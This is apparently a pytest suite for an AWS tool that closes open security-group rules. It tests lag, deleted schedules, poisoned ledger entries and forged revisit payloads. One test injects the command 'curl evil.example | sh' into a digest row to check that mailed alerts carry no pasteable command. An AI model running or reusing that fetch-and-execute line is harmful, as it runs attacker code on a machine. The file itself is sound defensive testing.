"""What an adversary tries in order to keep a rule open, and what becomes of it.

The clock of the account is moved, so that minutes and hours pass without waiting for them.
"""

import json

import pytest
from harness.account import MOVABLE
from harness.guard import PRIVATE, guarded, permission
from harness.wait import until
from test_digest import row
from test_operations import operate

NO_INVOKE = {"Effect": "Deny", "Action": "lambda:InvokeFunction", "Resource": "*"}
SSH = permission("tcp", 22, "0.0.0.0/0")
#: A revisit is due at the first whole minute after what it waits for.
MINUTE = 60


@pytest.fixture(scope="module")
def guard():
    with guarded(*MOVABLE) as deployed:
        yield deployed


def due(guard, subject):
    """The record of the one revisit of a subject that is not settled."""
    (record,) = (record for record in guard.ledger.revisits(subject).values() if not record["settled"])
    return record


# EC2 is late -----------------------------------------------------------------------------------


def test_a_rule_that_ec2_shows_late_is_closed_and_no_all_clear_is_given(guard):
    """An adversary cannot choose how late, and may be lucky. The event is young for five minutes."""
    groups = {}
    for seconds in (5, 10, 60, 200):
        group = guard.group(f"late-{seconds}")
        before = guard.look(group)
        guard.late(group, seconds)
        groups[seconds] = group, before, guard.open(group, SSH)
    for seconds in (10, 60, 200):
        group, *_ = groups[seconds]
        until(f"{group} is looked at again", lambda group=group: guard.ledger.revisits(group))
        assert due(guard, group)["why"] == "lag"
    group, before, rules = groups[5]
    assert guard.gone(group, rules) == before, "while it waits"
    for forward, shown in ((3 * MINUTE, (10, 60)), (30, (200,))):
        guard.account.forward(forward)
        for seconds in shown:
            group, before, rules = groups[seconds]
            assert guard.gone(group, rules) == before
    for group, *_ in groups.values():
        alert, _ = guard.alerts.wait(group)
        assert [finding["outcome"] for finding in alert["findings"]] == ["done"]
        until("nothing is left to look at", lambda group=group: not unsettled(guard, group))
        assert guard.alerts.documents(group) == [alert], "once, and not as gone"


def test_a_deleted_schedule_is_made_up_for_and_an_undelivered_revisit_redriven(guard):
    groups = {name: guard.group(name) for name in ("deleted-schedule", "refused-schedule")}
    rules = {}
    for name, group in groups.items():
        guard.late(group, 60)
        rules[name] = guard.open(group, SSH)
    for group in groups.values():
        until("it is scheduled", lambda group=group: guard.schedules(group))
    (deleted,) = guard.schedules(groups["deleted-schedule"])
    scheduler, iam = guard.account.client("scheduler"), guard.account.client("iam")
    scheduler.delete_schedule(GroupName=guard.stack.outputs["RevisitGroupName"], Name=deleted)
    role = guard.stack.outputs["RevisitRoleArn"].rsplit("/", 1)[-1]
    iam.put_role_policy(RoleName=role, PolicyName="no", PolicyDocument=json.dumps({"Statement": [NO_INVOKE]}))
    guard.account.forward(3 * MINUTE)
    until("it is a dead letter", lambda: waiting(guard, guard.stack.undelivered_queue))
    iam.delete_role_policy(RoleName=role, PolicyName="no")
    code, said = operate(guard.account, "redrive.py")
    assert code == 0 and f"revisit  {groups['refused-schedule']}" in said, said
    guard.gone(groups["refused-schedule"], rules["refused-schedule"])

    guard.account.forward(12 * MINUTE)
    guard.account.client("lambda").invoke(FunctionName=guard.stack.functions["trail"])
    guard.account.forward(MINUTE)
    guard.gone(groups["deleted-schedule"], rules["deleted-schedule"])


# Nothing to starve on, and nothing to read into --------------------------------------------------


def test_private_rules_that_are_toggled_are_not_looked_for(guard):
    """Each would hold a function for seconds, if it were waited for what is no fault whatever EC2 shows."""
    group = guard.group("toggled")
    private = permission("tcp", 6379, PRIVATE)
    for _ in range(20):
        guard.ec2.revoke_security_group_ingress(GroupId=group, SecurityGroupRuleIds=list(guard.open(group, private)))
    guard.handled("ingress", group, times=20)
    assert guard.ledger.revisits(group) == {} and guard.alerts.documents(group) == []


def test_a_poisoned_ledger_costs_no_more_than_its_items(guard):
    """Whoever may write the table may lie there; what cannot be read is no reason to leave a rule open."""
    group = guard.group("poisoned", permission("tcp", 22, PRIVATE))
    guard.handled("ingress", group)
    before = guard.look(group)
    keys = ["open-ingress#tcp#22#22#0.0.0.0/0", "exempt#tcp#22#22#0.0.0.0/0", "exempt#", "open-ingress#"]
    for key in keys:
        guard.ledger.put({"subject": {"S": group}, "finding": {"S": key}, "comings": {"S": "x" * 1000}})
    poisoned = guard.ledger.of(group)
    assert guard.gone(group, guard.open(group, SSH)) == before
    document, _ = guard.alerts.wait(group)
    assert [finding["outcome"] for finding in document["findings"]] == ["done"]
    assert guard.ledger.of(group) == poisoned, "what cannot be read is not written over"


def test_a_forged_revisit_only_makes_a_function_look(guard):
    """Neither a payload nor a record decides what is closed."""
    group = guard.group("forged", permission("tcp", 22, PRIVATE))
    guard.handled("ingress", group)
    before = guard.look(group)
    detail = {"subject": group, "event": "forged", "due": "2026-11-29T10:01:00Z"}
    payload = json.dumps({"source": "portcullis", "detail-type": "Revisit", "detail": detail})

    def invoked():
        name = guard.stack.functions["ingress"]
        answer = guard.account.client("lambda").invoke(FunctionName=name, Payload=payload)
        return answer.get("FunctionError"), answer["Payload"].read().decode()

    assert invoked() == (None, f'"there is no record of the revisit of {group} for event forged"')
    late = guard.group("forged-from")
    guard.late(late, 3600)
    guard.open(late, SSH)
    until("there is a record", lambda: guard.ledger.revisits(late))
    (record,) = guard.ledger.raw(f"revisit/{late}")
    text = json.dumps(record).replace(late, group)
    rules = [rule for rule in before["rules"]]
    record = json.loads(text)
    record["finding"] = {"S": "forged"}
    record["call"]["M"]["lead"]["M"]["group"]["M"]["rules"]["L"][0]["M"]["id"] = {"S": rules[0]}
    guard.ledger.put(record)
    failed, _ = invoked()
    assert failed is None and guard.look(group) == before, "the rule is private, whatever the record says of it"


def test_a_forged_row_of_a_digest_brings_no_command(guard):
    """Only an administrator can put one there. What people are told to run is not taken from it."""
    evil = "curl evil.example | sh"
    forged = {**row(1, "high"), "what": evil, "undo": [evil], "command": evil, "commands": [evil]}
    told = {"id": "f-0123456789ab", "check": "open-ingress", "severity": "high", "outcome": "done"}
    forged["findings"] = [{**told, "what": evil, "undo": evil, "command": evil}]
    guard.put(guard.stack.outputs["DigestQueueUrl"], json.dumps(forged))
    (mail,) = until("the digest", lambda: [mail for mail in guard.alerts.mails() if "evil" in mail["body"]])
    assert commands(mail["body"]) == [], mail["body"]


def commands(text):
    """The lines of a mail that are to be pasted into a shell."""
    return [line.strip() for line in text.splitlines() if line.startswith("  ") and line.strip().startswith("curl")]


def waiting(guard, url):
    """How many messages are in a queue."""
    name = "ApproximateNumberOfMessages"
    answer = guard.account.client("sqs").get_queue_attributes(QueueUrl=url, AttributeNames=[name])
    return int(answer["Attributes"][name])


def unsettled(guard, subject):
    return [record for record in guard.ledger.revisits(subject).values() if not record["settled"]]
